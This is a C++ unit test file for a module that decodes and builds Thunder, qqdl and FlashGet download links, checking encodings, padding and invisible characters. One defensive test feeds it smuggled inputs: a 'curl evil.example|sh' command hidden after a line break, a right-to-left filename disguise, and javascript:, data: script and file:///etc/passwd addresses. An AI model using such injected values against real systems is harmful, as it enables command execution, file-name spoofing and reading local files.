// Lines as people find them, through the pure list conversions.
#include "lists/found_links.h"

#include <gtest/gtest.h>

#include "codec/base64_transform.h"
#include "codec/code_page.h"
#include "codec/utf8.h"

namespace zentrova::lists {
namespace {

using links::LinkKind;

using Kind = LineResult::Kind;

struct Row {
  const char* name;
  std::u16string line;
  Charset charset;
  Kind kind;
  std::u16string text;  // the result, or a part of the reason for a failure
};

void Check(const Row& row, const LineResult& result) {
  EXPECT_EQ(result.kind, row.kind) << row.name << ": " << Reason(result);
  if (row.kind == Kind::kFailed) {
    EXPECT_NE(Reason(result).find(ToUtf8(row.text)), std::string::npos)
        << row.name << ": " << Reason(result);
    EXPECT_EQ(result.text, u"") << row.name;
  } else {
    EXPECT_EQ(ToUtf8(result.text), ToUtf8(row.text)) << row.name;
  }
}

class FoundLinksTest : public ::testing::Test {
 protected:
  void SetUp() override { ASSERT_TRUE(codepage::SetNarrowCodePage(936)); }
};

TEST_F(FoundLinksTest, OpensLinksWhereverTheyStandAndWhateverTheyHold) {
  constexpr auto kAuto = Charset::kAuto;
  const Row rows[] = {
      {"bare", u"thunder://QUFodHRwOi8vYS9iWlo=", kAuto, Kind::kConverted, u"http://a/b"},
      {"blanks around", u" \t thunder://QUFodHRwOi8vYS9iWlo= \r", kAuto, Kind::kConverted,
       u"http://a/b"},
      {"inside text", u"下载: THUNDER://QUFodHRwOi8vYS9iWlo= 谢谢", kAuto, Kind::kConverted,
       u"http://a/b"},
      {"in an href", u"<a href=\"qqdl://aHR0cDovL2EvYg==\">下载</a>", kAuto, Kind::kConverted,
       u"http://a/b"},
      {"first of two", u"qqdl://aHR0cDovL2EvYg== thunder://QUFmdHA6Ly9hL2JaWg==", kAuto,
       Kind::kConverted, u"http://a/b"},
      {"flashget wrapper and suffix", u"flashget://W0ZMQVNIR0VUXWh0dHA6Ly9hL2JbRkxBU0hHRVRd&abc",
       kAuto, Kind::kConverted, u"http://a/b"},
      {"flashget without wrapper", u"flashget://aHR0cDovL2EvYg==", kAuto, Kind::kConverted,
       u"http://a/b"},
      {"thunder ftp", u"thunder://QUFmdHA6Ly9hL2JaWg==", kAuto, Kind::kConverted, u"ftp://a/b"},
      {"thunder ed2k", u"thunder://QUFlZDJrOi8vfGZpbGV8eHwxfGh8L1pa", kAuto, Kind::kConverted,
       u"ed2k://|file|x|1|h|/"},
      {"thunder magnet", u"thunder://QUFtYWduZXQ6P3h0PXVybjpidGloOmFiY1pa", kAuto, Kind::kConverted,
       u"magnet:?xt=urn:btih:abc"},
      {"nested", u"flashget://dGh1bmRlcjovL1FVRm9kSFJ3T2k4dmJpOWxXbG89", kAuto, Kind::kConverted,
       u"http://n/e"},
      {"utf-8 inside, auto", u"qqdl://aHR0cDovL2Ev5Lit5paH", kAuto, Kind::kConverted,
       u"http://a/中文"},
      {"gbk inside, auto", u"qqdl://aHR0cDovL2Ev1tDOxA==", kAuto, Kind::kConverted,
       u"http://a/中文"},
      {"utf-8 inside, forced 936", u"qqdl://aHR0cDovL2Evw6k=", Charset::kCodePage, Kind::kConverted,
       u"http://a/茅"},  // "é" in UTF-8 is C3 A9, which 936 reads as 茅
      {"gbk inside, forced utf-8", u"qqdl://aHR0cDovL2Ev1tA=", Charset::kUtf8, Kind::kFailed,
       u"not UTF-8"},
      {"plain http", u"  http://plain/x ", kAuto, Kind::kPassedThrough, u"http://plain/x"},
      {"plain magnet", u"magnet:?xt=urn:btih:abc", kAuto, Kind::kPassedThrough,
       u"magnet:?xt=urn:btih:abc"},
      {"blank", u" \t ", kAuto, Kind::kBlank, u""},
      {"nothing", u"谢谢楼主", kAuto, Kind::kFailed, u"no special link"},
      {"no payload", u"thunder://", kAuto, Kind::kFailed, u"no Base64"},
      {"bad base64", u"qqdl://a", kAuto, Kind::kFailed, u"not valid"},
      {"thunder without wrapper", u"thunder://aHR0cDovL2EvYg==", kAuto, Kind::kFailed, u"AA"},
      {"no address", u"thunder://QUFoZWxsbyB3b3JsZFpa", kAuto, Kind::kFailed, u"address"},
      {"control character", u"qqdl://aHR0cDovL2EvG2I=", kAuto, Kind::kFailed, u"U+001B"},
  };
  for (const Row& row : rows) Check(row, OpenFoundLink(row.line, row.charset));
}

TEST_F(FoundLinksTest, OpensLinksInTheFormsTheyArePostedIn) {
  constexpr auto kAuto = Charset::kAuto;
  const Row rows[] = {
      {"slash after a Markdown link", u"[下载](thunder://QUFodHRwOi8vaC9hLnppcFpa/)", kAuto,
       Kind::kConverted, u"http://h/a.zip"},
      {"slashes after a link", u"thunder://QUFodHRwOi8vaC9hLnppcFpa//", kAuto, Kind::kConverted,
       u"http://h/a.zip"},
      {"slash after the padding", u"<a href=\"thunder://QUFodHRwOi8vaC9hYi56aXBaWg==/\">", kAuto,
       Kind::kConverted, u"http://h/ab.zip"},
      {"slash after a link with a slash of its own", u"thunder://QUFodHRwOi8vYS/W0Fpa/", kAuto,
       Kind::kConverted, u"http://a/中"},
      {"text glued to the padding", u"迅雷下载：thunder://QUFodHRwOi8vaC93aW4uaXNvWlo=Windows 7",
       kAuto, Kind::kConverted, u"http://h/win.iso"},
      {"percent-encoded", u"thunder%3A%2F%2FQUFodHRwOi8vaC9hIGIubXA0Wlo%3D", kAuto,
       Kind::kConverted, u"http://h/a b.mp4"},
      {"percent-encoded in a query", u"https://x/go?u=qqdl%3a%2f%2faHR0cDovL2EvYg%3d%3d&r=1", kAuto,
       Kind::kConverted, u"http://a/b"},
      {"percent-encoded plus", u"\"url\":\"qqdl%3A%2F%2FaHR0cDovL2EvYj8%2B\"", kAuto,
       Kind::kConverted, u"http://a/b?>"},
      {"percent-encoded slash and a space", u"THUNDER%3A%2F%2FQUFodHRwOi8vYS%2FW0%20Fpa", kAuto,
       Kind::kConverted, u"http://a/中"},
      {"percent-encoded flashget", u"flashget%3A%2F%2FaHR0cDovL2EvYg%3D%3D%26abc", kAuto,
       Kind::kConverted, u"http://a/b"},
      {"the address inside stays as the link holds it", u"qqdl://aHR0cDovL2EvYSUyMGI=", kAuto,
       Kind::kConverted, u"http://a/a%20b"},
      {"no-break space after", u"thunder://QUFodHRwOi8vaC9hLnppcFpa\u00a0", kAuto, Kind::kConverted,
       u"http://h/a.zip"},
      {"zero-width space and byte-order mark around", u"\u200b\ufeffhttp://a/b\u200b", kAuto,
       Kind::kPassedThrough, u"http://a/b"},
      {"control character in a plain address", u"http://a/b\u0007", kAuto, Kind::kFailed,
       u"U+0007"},
      {"a lone character is no link", u"thunder://Q", kAuto, Kind::kFailed, u"not valid"},
      // Padding a tool wrote too much of, after complete data: read past, as padding left off.
      {"one '=' too many", u"thunder://QUFodHRwOi8vaC9hLnppcFpa=", kAuto, Kind::kConverted,
       u"http://h/a.zip"},
      {"three '=' where two are due", u"qqdl://aHR0cDovL2EvYg===", kAuto, Kind::kConverted,
       u"http://a/b"},
      {"two '=' where one is due", u"thunder://QUFodHRwOi8vaC93aW4uaXNvWlo== 下载", kAuto,
       Kind::kConverted, u"http://h/win.iso"},
      {"escaped surplus padding", u"qqdl%3A%2F%2FaHR0cDovL2EvYg%3D%3D%3D", kAuto, Kind::kConverted,
       u"http://a/b"},
      // Characters no one sees (Default_Ignorable_Code_Point), whatever the reading.
      {"soft hyphen, short UTF-8 name", u"qqdl://aHR0cDovL2gvYcKtYg==", kAuto, Kind::kFailed,
       u"U+00AD"},
      {"combining grapheme joiner", u"qqdl://aHR0cDovL2gvYc2PYi56aXA=", kAuto, Kind::kFailed,
       u"U+034F"},
      {"Khmer vowel inherent", u"qqdl://aHR0cDovL2gv4Z60YS56aXA=", kAuto, Kind::kFailed, u"U+17B4"},
      {"Mongolian selector", u"qqdl://aHR0cDovL2gv4aCLYS56aXA=", kAuto, Kind::kFailed, u"U+180B"},
      {"deprecated format character", u"qqdl://aHR0cDovL2gv4oGqYS56aXA=", kAuto, Kind::kFailed,
       u"U+206A"},
      {"annotation anchor", u"qqdl://aHR0cDovL2gv77+5YS56aXA=", kAuto, Kind::kFailed, u"U+FFF9"},
      {"selector after a letter", u"qqdl://aHR0cDovL2gvYe+4jy56aXA=", kAuto, Kind::kFailed,
       u"U+FE0F"},
      {"ideographic variation selector", u"qqdl://aHR0cDovL2gv6JGb86CEgC56aXA=", kAuto,
       Kind::kFailed, u"U+E0100"},
      {"musical format control", u"qqdl://aHR0cDovL2gv8J2Fs2Euemlw", kAuto, Kind::kFailed,
       u"U+1D173"},
      {"a tag", u"qqdl://aHR0cDovL2gvYfOggIEuemlw", kAuto, Kind::kFailed, u"U+E0001"},
      {"an emoji keeps its selector", u"qqdl://aHR0cDovL2gv4p2k77iPLmpwZw==", kAuto,
       Kind::kConverted, u"http://h/\u2764\uFE0F.jpg"},
      {"padding cannot mend a lone letter", u"qqdl://aHR0cDovL2EvY===", kAuto, Kind::kFailed,
       u"not valid"},
  };
  for (const Row& row : rows) Check(row, OpenFoundLink(row.line, row.charset));
}

TEST_F(FoundLinksTest, MakesLinksAsTheWindowDoesOnOneLine) {
  constexpr auto kAuto = Charset::kAuto;
  const std::u16string longAddress = u"http://h/" + std::u16string(200, u'a');
  const Row rows[] = {
      {"thunder", u"http://a/b", kAuto, Kind::kConverted, u"thunder://QUFodHRwOi8vYS9iWlo="},
      {"thunder, scheme in capitals", u"HTTP://a/b", kAuto, Kind::kConverted,
       u"thunder://QUFodHRwOi8vYS9iWlo="},
      {"address in text", u"see https://x/y here", kAuto, Kind::kConverted,
       u"thunder://QUFodHRwczovL3gveVpa"},
      {"a line that is an address keeps its spaces", u"  http://h/a b.mp4 ", kAuto,
       Kind::kConverted, u"thunder://QUFodHRwOi8vaC9hIGIubXA0Wlo="},
      {"no-break space after", u"http://h/a b.mp4\u00a0", kAuto, Kind::kConverted,
       u"thunder://QUFodHRwOi8vaC9hIGIubXA0Wlo="},
      {"no-break space before an address in text", u"下载\u00a0http://h/a.zip\u00a0谢谢", kAuto,
       Kind::kConverted, u"thunder://QUFodHRwOi8vaC9hLnppcFpa"},
      {"gbk by default", u"http://a/中", kAuto, Kind::kConverted,
       u"thunder://QUFodHRwOi8vYS/W0Fpa"},
      {"utf-8 on request", u"http://a/中", Charset::kUtf8, Kind::kConverted,
       u"thunder://QUFodHRwOi8vYS/kuK1aWg=="},
      {"not in 936", u"http://a/😀", kAuto, Kind::kFailed, u"U+1F600"},
      {"a lone surrogate in UTF-8", u"http://a/\xd83d.zip", Charset::kUtf8, Kind::kFailed,
       u"lone surrogate U+D83D"},
      {"a pair in UTF-8", u"http://a/😀", Charset::kUtf8, Kind::kConverted,
       u"thunder://QUFodHRwOi8vYS/wn5iAWlo="},
      {"nothing", u"谢谢", kAuto, Kind::kFailed, u"no plain address"},
      {"blank", u"", kAuto, Kind::kBlank, u""},
  };
  for (const Row& row : rows) Check(row, MakeFoundLink(LinkKind::kThunder, row.line, row.charset));

  // FlashGet and QQ Whirlwind carry the address itself; a long one stays on one line.
  const LineResult flashget = MakeFoundLink(LinkKind::kFlashGet, u"<" + longAddress + u">", kAuto);
  EXPECT_EQ(flashget.text.find(u'\n'), std::u16string::npos);
  EXPECT_EQ(OpenFoundLink(flashget.text, kAuto).text, longAddress);
  EXPECT_EQ(MakeFoundLink(LinkKind::kQQWhirlwind, u"http://a/b", kAuto).text,
            u"qqdl://aHR0cDovL2EvYg==");
}

// The link of `kind` ("qqdl://" or "thunder://") for the address bytes `bytes`, as it would be
// posted: Thunder's wrapper around them.
std::u16string LinkOf(std::u16string_view prefix, std::string bytes) {
  if (prefix == u"thunder://") bytes = "AA" + bytes + "ZZ";
  std::u16string link(prefix);
  base64::EncodeAppend(bytes, link);
  std::erase(link, u'\n');
  return link;
}

// What a link carries never reaches a list, a terminal or a downloader as something else: no
// line break or NUL to run as a command, no direction or invisible mark to disguise a file, no
// scheme that is not a download.
TEST_F(FoundLinksTest, RefusesAddressesThatWouldMisleadOrRunAsCommands) {
  // Some of these bytes are GBK too, and read so they hold no such character: forced UTF-8.
  constexpr auto kUtf8 = Charset::kUtf8;
  const struct {
    const char* name;
    std::u16string line;
    std::u16string why;
    Charset charset = Charset::kAuto;
  } rows[] = {
      {"command after CR LF", LinkOf(u"qqdl://", "http://a/\r\ncurl evil.example|sh\r\n"),
       u"control character U+000D"},
      {"NUL", LinkOf(u"qqdl://", std::string("http://a/\0b", 11)), u"U+0000"},
      {"DEL", LinkOf(u"thunder://", "http://a/\x7f"), u"U+007F"},
      {"next line U+0085", LinkOf(u"qqdl://", "http://a/b\xc2\x85x"), u"control character U+0085",
       kUtf8},
      {"right-to-left override", LinkOf(u"qqdl://", ToUtf8(u"http://a/下载\u202egpj.exe")),
       u"direction character U+202E"},
      {"line separator", LinkOf(u"qqdl://", ToUtf8(u"http://a/b\u2028c")), u"U+2028", kUtf8},
      {"paragraph separator", LinkOf(u"thunder://", ToUtf8(u"http://a/b\u2029c")), u"U+2029",
       kUtf8},
      {"Arabic letter mark", LinkOf(u"qqdl://", ToUtf8(u"http://a/b\u061cc")), u"U+061C", kUtf8},
      {"left-to-right mark", LinkOf(u"qqdl://", ToUtf8(u"http://a/b\u200ec")), u"U+200E", kUtf8},
      {"isolate", LinkOf(u"qqdl://", ToUtf8(u"http://a/\u2066b\u2069")), u"U+2066", kUtf8},
      {"byte-order mark inside", LinkOf(u"qqdl://", ToUtf8(u"http://a/\ufeffb")), u"U+FEFF", kUtf8},
      {"direction mark in a plain address", u"http://a/\u202egpj.exe", u"U+202E"},
      {"next line in a plain address", u"http://a/\u0085b", u"U+0085"},
      {"javascript", LinkOf(u"thunder://", "javascript:alert(document.domain)//"),
       u"'javascript:' address"},
      {"data", LinkOf(u"qqdl://", "data:text/html,<script>alert(1)</script>"), u"'data:'"},
      {"file", LinkOf(u"qqdl://", "file:///etc/passwd"), u"'file:'"},
      {"long scheme cut short", LinkOf(u"qqdl://", std::string(100, 'x') + ":y"),
       u"'xxxxxxxxxxxxxxxxxxxxxxxx…:'"},
  };
  for (const auto& row : rows) {
    Check({row.name, row.line, row.charset, Kind::kFailed, row.why},
          OpenFoundLink(row.line, row.charset));
  }
}

TEST_F(FoundLinksTest, ReadsTheAddressInsideTheWrapperAndWhateverStandsBeforeTheLink) {
  constexpr auto kAuto = Charset::kAuto;
  const std::u16string link = u"thunder://QUFodHRwOi8vYS9iWlo=";
  const Row rows[] = {
      // Read with "ZZ" after it, the UTF-8 dash's last byte and a "Z" made one GBK character.
      {"UTF-8 dash before the wrapper's end", LinkOf(u"thunder://", ToUtf8(u"http://a/x—")), kAuto,
       Kind::kConverted, u"http://a/x—"},
      {"UTF-8 dash before an ASCII word", LinkOf(u"qqdl://", ToUtf8(u"http://a/—bc")), kAuto,
       Kind::kConverted, u"http://a/—bc"},
      {"flashget wrapper after UTF-8",
       LinkOf(u"flashget://", ToUtf8(u"[FLASHGET]http://a/—[FLASHGET]")), kAuto, Kind::kConverted,
       u"http://a/—"},
      {"GBK whose first byte is past UTF-8's leads",
       LinkOf(u"thunder://", codepage::ToNarrow(u"http://a/鳌搬\u3000.zip")), kAuto,
       Kind::kConverted, u"http://a/鳌搬\u3000.zip"},
      {"full-width colon", u"下载：" + link, kAuto, Kind::kConverted, u"http://a/b"},
      {"enumeration comma", u"1、" + link, kAuto, Kind::kConverted, u"http://a/b"},
      {"corner bracket", u"「" + link + u"」", kAuto, Kind::kConverted, u"http://a/b"},
      {"byte-order marks around stay blanks", u"\ufeff" + link + u"\ufeff", kAuto, Kind::kConverted,
       u"http://a/b"},
  };
  for (const Row& row : rows) Check(row, OpenFoundLink(row.line, row.charset));
}

// Bytes valid both as UTF-8 and as code page 936 are read as a person would read them: real
// Chinese names whose GBK bytes happen to be UTF-8, and real Latin names in UTF-8.
TEST_F(FoundLinksTest, ChoosesTheReadingAPersonWouldForBytesValidBothWays) {
  const struct {
    std::u16string name;
    bool gbk;  // the name's bytes are GBK, else UTF-8
  } rows[] = {
      {u"水.mp3", true},
      {u"录.avi", true},
      {u"毛毛.jpg", true},
      {u"石.txt", true},
      {u"钱.rar", true},
      {u"韦.mkv", true},
      {u"谢谢", true},
      {u"片/魏.mp4", true},
      {u"卢-陆.zip", true},
      {u"谭/薛/姚.rmvb", true},
      {u"[庄]鲁.iso", true},
      {u"史 施.flac", true},
      // Traditional and rarer characters whose second GBK byte is ASCII.
      {u"陣營.zip", true},
      {u"電學.pdf", true},
      {u"顪竕.zip", true},
      {u"café.mp3", false},
      {u"résumé.pdf", false},
      {u"Ñandú.avi", false},
      {u"naïve.txt", false},
      {u"Zürich.jpg", false},
      {u"über.zip", false},
      {u"Björk.flac", false},
      {u"中文.mp4", false},
      {u"高清-水.mkv", false},
  };
  for (const auto& row : rows) {
    const std::u16string address = u"http://h/" + row.name;
    const std::string bytes = row.gbk ? codepage::ToNarrow(address) : ToUtf8(address);
    std::u16string encoded;
    base64::EncodeAppend(bytes, encoded);
    std::erase(encoded, u'\n');
    const LineResult result = OpenFoundLink(u"qqdl://" + encoded, Charset::kAuto);
    EXPECT_EQ(ToUtf8(result.text), ToUtf8(address))
        << (row.gbk ? "GBK " : "UTF-8 ") << ToUtf8(row.name);
  }
}

}  // namespace
}  // namespace zentrova::lists
